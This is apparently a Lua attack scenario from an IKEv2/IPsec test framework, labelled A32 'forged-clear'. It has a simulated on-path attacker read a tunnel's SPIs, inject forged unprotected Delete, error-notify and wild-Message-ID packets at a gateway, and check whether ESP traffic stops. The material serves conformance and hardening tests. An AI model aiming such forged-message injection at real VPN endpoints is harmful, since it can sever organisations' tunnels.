-- Messages in the clear that pretend to end an IKE SA: DELETE, AUTHENTICATION_FAILED, INVALID_IKE_SPI, INITIAL_CONTACT, a wild Message ID.
-- After IKE_SA_INIT everything an IKE SA acts upon is under its keys; what comes without an Encrypted payload may be looked at, not obeyed.
attack = {
  id = "A32", name = "forged-clear",
  about = "Sends forged DELETE, INITIAL_CONTACT, error notifications and wild Message IDs in the clear, as if from the peer",
  position = "on-path",
  needs = "the SPIs of an IKE SA, which every message shows",
  source = "RFC 7296, 2.4 (cryptographically unprotected messages), 2.21.4; catalogue A32",
  shows = {
    vulnerable = "an endpoint that obeys unprotected messages loses its tunnel to six datagrams",
    hardened = "every one of them is refused, the SAs live on, and traffic passes",
  },
  scenarios = { vulnerable = "forged-clear-obeyed", hardened = "forged-clear" },
}

-- Parameters: victim = the node it writes to ("gw-b"), at = "3s"
local victim, spi_i, spi_r, sample

function on_start(params)
  victim = params.victim or "gw-b"
  timer.after(params.at or "3s", "forge")
end

on({ exchange = "IKE_AUTH", response = true }, function(p, message)
  spi_i, spi_r = message.spi_i, message.spi_r
  learn("IKE SA " .. spi_i .. " " .. spi_r, "both SPIs of the IKE SA between " .. p.src .. " and " .. p.dst, "the IKE header is readable")
end)
on({ exchange = "IKE_AUTH" }, function(p)
  if p.to == victim then sample = p end
end)

local function send(note, exchange, message_id, payloads, response)
  inject{ src = sample.src, src_port = sample.src_port, dst = sample.dst, dst_port = sample.dst_port, protocol = "IKE", to = victim,
    note = note, after = "5ms",
    payload = ike.encode{ spi_i = spi_i, spi_r = spi_r, exchange = exchange, message_id = message_id, response = response or false,
      initiator = sample.from == "gw-a", payloads = payloads } }
end

function on_timer()
  if not (sample and spi_r) then return achieved("end the tunnel", false, "no IKE SA came by") end
  mark("mallory forges messages to " .. victim .. " that ask it to forget its tunnel.")
  send("INFORMATIONAL with a Delete payload for the IKE SA, in the clear", 37, 2, { ike.delete() })
  send("INFORMATIONAL: AUTHENTICATION_FAILED, in the clear", 37, 2, { ike.notify(24) })
  send("INFORMATIONAL: INVALID_SYNTAX, as a response in the clear", 37, 2, { ike.notify(7) }, true)
  send("INFORMATIONAL: INITIAL_CONTACT, in the clear", 37, 2, { ike.notify(16384) })
  send("INFORMATIONAL: INVALID_IKE_SPI, in the clear", 37, 2, { ike.notify(4) })
  send("an empty INFORMATIONAL with Message ID 4000000000", 37, 4000000000, {})
  timer.after("2s", "look")
  on_timer = function()   -- whether the tunnel lives, the wire tells: ESP packets go both ways
    watching = true
    timer.after("2s", "verdict")
    on_timer = function()
      local alive = seen[victim] and seen[victim] > 0
      achieved("end the tunnel", not alive, alive and victim .. " still sends ESP: nothing was obeyed" or victim .. " sends no ESP any more")
    end
  end
end

seen = {}
on({ protocol = "ESP" }, function(p)
  if watching then seen[p.from] = (seen[p.from] or 0) + 1 end
end)
